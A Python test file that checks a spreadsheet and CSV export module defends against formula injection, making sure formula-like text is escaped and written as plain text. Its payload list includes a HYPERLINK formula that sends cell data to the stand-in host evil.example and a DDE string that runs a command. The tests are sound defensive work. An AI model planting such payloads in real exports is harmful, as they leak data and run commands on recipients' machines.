"""Exports write text only as text."""

import csv
import datetime
import io

import openpyxl
import pytest

from centres.exports import CsvFile, Workbook, neutralised

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_starts_a_formula_gets_an_apostrophe(payload):
    assert neutralised(payload) == "'" + payload


def test_other_text_is_left_alone():
    assert neutralised("Bolig og boligliste") == "Bolig og boligliste"
    assert neutralised("< 5") == "< 5"
    assert neutralised(" =1") == " =1"  # a leading space makes it text already


def test_csv_fields_text_neutralised_numbers_as_numbers():
    csv_file = CsvFile()
    csv_file.row(["=1+1", -3, 12.5, None, datetime.date(2026, 1, 31), "Råd"])
    text = csv_file.content().decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert next(csv.reader(io.StringIO(text), delimiter=";")) == [
        "'=1+1",
        "-3",
        "12,5",
        "",
        "31.01.2026",
        "Råd",
    ]


def read_back(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_a_sheet_writes_text_as_text_numbers_as_numbers():
    workbook = Workbook()
    sheet = workbook.add_worksheet("Ark")
    bold = workbook.add_format({"bold": True})
    for row, payload in enumerate(PAYLOADS):
        sheet.cell(row, 0, payload)
        sheet.cells(row, 1, [payload, row, 2.5], bold)
        sheet.merge(row, 4, row, 5, payload, bold)
    sheet.cell(0, 6, datetime.date(2026, 1, 31), workbook.add_format({"num_format": "d.m.yyyy"}))
    book = read_back(workbook.close())["Ark"]
    for row, payload in enumerate(PAYLOADS, start=1):
        for col in (1, 2, 5):
            cell = book.cell(row, col)
            # The file escapes a carriage return as _x000D_, which openpyxl leaves be.
            assert (cell.data_type, cell.value.replace("_x000D_", "\r")) == ("s", payload)
        assert book.cell(row, 3).data_type == "n"
        assert book.cell(row, 4).value == 2.5
    assert book.cell(1, 7).is_date
    assert not book._hyperlinks


@pytest.mark.parametrize(
    "method",
    ["write", "write_row", "write_column", "write_formula", "write_url", "merge_range"],
)
def test_a_sheet_has_no_way_to_write_a_formula_or_a_link(method):
    sheet = Workbook().add_worksheet("Ark")
    assert not hasattr(sheet, method)
    with pytest.raises(AttributeError, match="write through"):
        getattr(sheet, method)


def test_a_sheet_lays_its_pages_out():
    workbook = Workbook()
    sheet = workbook.add_worksheet("Ark")
    sheet.set_column(0, 0, 30)
    sheet.set_landscape()
    sheet.freeze_panes(1, 0)
    assert read_back(workbook.close())["Ark"].column_dimensions["A"].width > 29


def test_the_workbook_turns_xlsxwriters_own_conversions_off():
    workbook = Workbook()
    options = workbook._book.strings_to_formulas, workbook._book.strings_to_urls
    assert options == (False, False)
    workbook.close()
